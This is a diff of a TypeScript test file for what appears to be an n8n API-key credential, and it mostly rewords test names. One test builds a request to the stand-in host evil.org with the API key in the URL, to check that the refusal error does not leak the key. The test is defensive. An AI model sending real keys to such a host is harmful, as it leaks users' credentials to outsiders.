@@ -74,13 +74,13 @@ it.each<[object, RegExp, object?]>([
 		(baseUrl): [object, RegExp, object] => [{ url: CRM }, NO_BASE_URL, { baseUrl }],
 	),
 ])(
-	'The credential adds no key to the request %j, and fails with %s (credential: %j)',
+	'The credential adds no key to %j, and fails with %s (credential: %j)',
 	async (request, message, credentials = {}) => {
 		await expect(signed(request, credentials)).rejects.toThrow(message);
 	},
 );
 
-it('The error of a refused request holds no API key, and no code that makes n8n replace the message', async () => {
+it("A refusal's error holds no API key, and no code that replaces its message", async () => {
 	const refusal: unknown = await signed({ url: `https://evil.org/?key=${KEY}` }).catch(
 		(error: unknown) => error,
 	);
@@ -95,7 +95,7 @@ describe('the credential', () => {
 		expect(apiKey?.typeOptions).toMatchObject({ password: true });
 	});
 
-	it('The description of Names of Users and Tags fits on two lines of the form', () => {
+	it('The description of Names of Users and Tags fits on two lines', () => {
 		const names = credential.properties.find(({ name }) => name === 'names');
 		expect(names?.description).toMatch(/^.{40,110}$/);
 	});
